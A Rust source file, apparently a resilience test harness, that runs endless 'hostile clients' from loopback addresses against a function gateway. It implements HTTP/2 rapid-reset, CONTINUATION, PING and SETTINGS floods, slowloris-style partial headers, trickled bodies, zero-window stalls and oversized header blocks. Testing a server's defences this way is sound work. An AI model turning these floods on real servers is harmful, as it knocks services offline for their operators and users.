//! Hostile clients. Each begins again when the gateway ends its connection.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;

use super::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, GET, HEADERS, INITIAL_WINDOW, PING, POST, RST_STREAM,
    SETTINGS, frame, head, preface, setting,
};

/// Addresses of hostile clients.
const FROM: [&str; 3] = ["127.0.0.2:0", "127.0.0.3:0", "127.0.0.4:0"];
/// Pause between two bytes of a slow client.
const PAUSE: Duration = Duration::from_millis(300);
/// Pause before a client begins again.
const AGAIN: Duration = Duration::from_secs(1);
const BODY: usize = 8 << 20;

/// Kinds of hostile clients, with the number of connections of each.
const KINDS: [(Kind, usize); 11] = [
    (Kind::Heads { fields: 960 }, 24),
    (Kind::Heads { fields: 90 }, 60),
    (Kind::SlowBody, 24),
    (Kind::WaitingBody, 24),
    (Kind::Unread, 24),
    (Kind::ClosedWindow, 24),
    (Kind::HalfHead, 300),
    (Kind::RapidReset, 3),
    (Kind::Continuations, 3),
    (Kind::Pings, 3),
    (Kind::Settings, 3),
];

#[derive(Clone, Copy)]
enum Kind {
    /// Open requests by HTTP/2, whose fields take a byte each on the wire.
    Heads {
        fields: usize,
    },
    /// All but the end of a body, and then a byte at a time.
    SlowBody,
    /// A whole body for a function without instances.
    WaitingBody,
    /// A response without an end, unread, by HTTP/1 and HTTP/2.
    Unread,
    ClosedWindow,
    HalfHead,
    RapidReset,
    Continuations,
    Pings,
    Settings,
}

/// Runs all hostile clients, for ever.
pub async fn run(gateway: SocketAddr) {
    let mut tasks = JoinSet::new();
    for (kind, count) in KINDS {
        for number in 0..count {
            let from = FROM[number % FROM.len()];
            tasks.spawn(async move {
                loop {
                    if let Ok(stream) = connect(from, gateway).await {
                        // The gateway may end it at any time.
                        drop(attack(kind, stream).await);
                    }
                    tokio::time::sleep(AGAIN).await;
                }
            });
        }
    }
    tasks.join_all().await;
}

async fn connect(from: &str, gateway: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(4 << 10)?;
    socket.bind(from.parse().unwrap())?;
    socket.connect(gateway).await
}

async fn attack(kind: Kind, mut stream: TcpStream) -> std::io::Result<()> {
    match kind {
        Kind::Heads { fields } => {
            stream.write_all(&preface()).await?;
            for number in 0..256 {
                let block = head(POST, "/functions/zero/x", fields, number == 0);
                let bytes = frame(HEADERS, END_HEADERS, number * 2 + 1, &block);
                stream.write_all(&bytes).await?;
            }
            until_closed(stream).await
        }
        Kind::SlowBody => {
            let head = format!(
                "POST /functions/victim/x HTTP/1.1\r\nhost: g\r\ncontent-length: {BODY}\r\n\r\n"
            );
            stream.write_all(head.as_bytes()).await?;
            stream.write_all(&vec![b'x'; BODY - 100]).await?;
            trickle(stream).await
        }
        Kind::WaitingBody => {
            let head = format!(
                "POST /functions/zero/x HTTP/1.1\r\nhost: g\r\ncontent-length: {BODY}\r\n\r\n"
            );
            stream.write_all(head.as_bytes()).await?;
            stream.write_all(&vec![b'x'; BODY]).await?;
            until_closed(stream).await
        }
        Kind::Unread => {
            stream
                .write_all(b"GET /functions/flood/x HTTP/1.1\r\nhost: g\r\n\r\n")
                .await?;
            unread(&mut stream).await
        }
        Kind::ClosedWindow => {
            stream.write_all(&preface()).await?;
            stream.write_all(&setting(INITIAL_WINDOW, 0)).await?;
            for number in 0..64 {
                let block = head(GET, "/functions/flood/x", 0, false);
                let flags = END_HEADERS | END_STREAM;
                let bytes = frame(HEADERS, flags, number * 2 + 1, &block);
                stream.write_all(&bytes).await?;
            }
            until_closed(stream).await
        }
        Kind::HalfHead => {
            stream
                .write_all(b"GET /functions/victim/x HTTP/1.1\r\nx-")
                .await?;
            trickle(stream).await
        }
        Kind::RapidReset => {
            stream.write_all(&preface()).await?;
            let mut number = 1;
            loop {
                let block = head(POST, "/functions/victim/x", 0, false);
                let reset = frame(RST_STREAM, 0, number, &[0, 0, 0, 8]);
                let bytes = [frame(HEADERS, END_HEADERS, number, &block), reset].concat();
                stream.write_all(&bytes).await?;
                number += 2;
            }
        }
        Kind::Continuations => {
            stream.write_all(&preface()).await?;
            let block = head(POST, "/functions/victim/x", 0, true);
            stream.write_all(&frame(HEADERS, 0, 1, &block)).await?;
            loop {
                let bytes = frame(CONTINUATION, 0, 1, &[0xbe; 1_000]);
                stream.write_all(&bytes).await?;
            }
        }
        Kind::Pings => flood(stream, &frame(PING, 0, 0, &[7; 8])).await,
        Kind::Settings => flood(stream, &frame(SETTINGS, 0, 0, &[])).await,
    }
}

/// Sends frames without reading the answers.
async fn flood(mut stream: TcpStream, bytes: &[u8]) -> std::io::Result<()> {
    stream.write_all(&preface()).await?;
    let many = bytes.repeat(100);
    loop {
        stream.write_all(&many).await?;
    }
}

async fn trickle(mut stream: TcpStream) -> std::io::Result<()> {
    loop {
        tokio::time::sleep(PAUSE).await;
        stream.write_all(b"x").await?;
    }
}

/// Waits for the end without reading.
async fn unread(stream: &mut TcpStream) -> std::io::Result<()> {
    loop {
        tokio::time::sleep(PAUSE).await;
        // Fails once the gateway has reset the connection; nothing else tells a client that does not read.
        stream.write_all(b"x").await?;
    }
}

async fn until_closed(mut stream: TcpStream) -> std::io::Result<()> {
    let mut part = [0; 4 << 10];
    while stream.read(&mut part).await? > 0 {}
    Ok(())
}
